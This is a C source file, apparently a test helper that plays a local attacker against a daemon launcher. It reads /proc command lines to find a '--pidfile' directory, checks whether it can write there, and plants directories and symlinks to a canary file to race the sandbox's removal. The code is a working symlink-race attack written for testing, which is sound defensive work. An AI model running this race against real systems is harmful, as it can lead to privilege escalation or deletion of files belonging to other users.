/* privprobe.c: an attacker looking for a live case's directories. The P1
 * cases give the unprivileged daemon a directory for its PID file, and the
 * launcher's command line (world-readable in /proc) names it. This watches
 * /proc for a command line with "--user" and "--pidfile PATH", then tries
 * to write a file of its own in PATH's directory (O_EXCL), and, if that
 * works, plants DIR/dN (each holding a file named SECRET) beside symlinks
 * DIR/lN to CANARY and becomes EXCHANGE DIR SECONDS, racing the case's
 * removal of its sandbox.
 *
 *     privprobe SECONDS CANARY SECRET EXCHANGE
 *
 * Prints "found DIR", then "write ok" or "write ERROR"; or "not found"
 * after SECONDS. */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#define PAIRS 16

static double now(void)
{
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

/* The directory of the --pidfile in pid's command line, if that command
 * line also has --user: a launch of a P1 case, whose daemon (another
 * user) must be able to write there. */
static bool p1_dir_of(const char *pid, char *out, size_t size)
{
    char path[sizeof "/proc//cmdline" + 256], args[8192];
    snprintf(path, sizeof path, "/proc/%s/cmdline", pid);
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    if (fd < 0)
        return false;
    ssize_t n = read(fd, args, sizeof args - 1);
    close(fd);
    if (n <= 0)
        return false;
    args[n] = '\0';
    const char *pidfile = NULL;
    bool user = false;
    for (char *a = args; a < args + n; a += strlen(a) + 1) {
        user |= strcmp(a, "--user") == 0;
        if (strcmp(a, "--pidfile") == 0 && a + strlen(a) + 1 < args + n)
            pidfile = a + strlen(a) + 1;
    }
    const char *slash = pidfile ? strrchr(pidfile, '/') : NULL;
    if (!user || slash == NULL)
        return false;
    snprintf(out, size, "%.*s", (int)(slash - pidfile), pidfile);
    return true;
}

static bool find(char *dir, size_t size)
{
    DIR *d = opendir("/proc");
    if (d == NULL)
        return false;
    bool found = false;
    for (struct dirent *e; !found && (e = readdir(d)) != NULL;)
        if (e->d_name[0] >= '1' && e->d_name[0] <= '9')
            found = p1_dir_of(e->d_name, dir, size);
    closedir(d);
    return found;
}

int main(int argc, char **argv)
{
    if (argc != 5) {
        fprintf(stderr, "usage: privprobe SECONDS CANARY SECRET EXCHANGE\n");
        return 2;
    }
    double until = now() + atof(argv[1]);
    char dir[4096];
    setvbuf(stdout, NULL, _IOLBF, 0);
    while (!find(dir, sizeof dir)) {
        if (now() > until) {
            printf("not found\n");
            return 0;
        }
        usleep(1000); /* /proc has no change notification */
    }
    printf("found %s\n", dir);
    char path[4200];
    snprintf(path, sizeof path, "%s/attacker-was-here", dir);
    int fd = open(path, O_WRONLY | O_CREAT | O_EXCL | O_NOFOLLOW | O_CLOEXEC, 0644);
    if (fd < 0) {
        printf("write %s\n", strerror(errno));
        return 0;
    }
    close(fd);
    printf("write ok\n");
    int at = open(dir, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    for (int i = 0; at >= 0 && i < PAIRS; i++) {
        char d[16], l[16];
        snprintf(d, sizeof d, "d%d", i);
        snprintf(l, sizeof l, "l%d", i);
        if (mkdirat(at, d, 0777) < 0 || symlinkat(argv[2], at, l) < 0)
            break;
        snprintf(path, sizeof path, "%s/%s/%s", dir, d, argv[3]);
        fd = open(path, O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 0644);
        if (fd >= 0)
            close(fd);
    }
    char seconds[32];
    snprintf(seconds, sizeof seconds, "%.1f", until - now() > 1 ? until - now() : 1.0);
    fflush(stdout);
    execl(argv[4], argv[4], dir, seconds, (char *)NULL);
    printf("exec %s: %s\n", argv[4], strerror(errno));
    return 0;
}
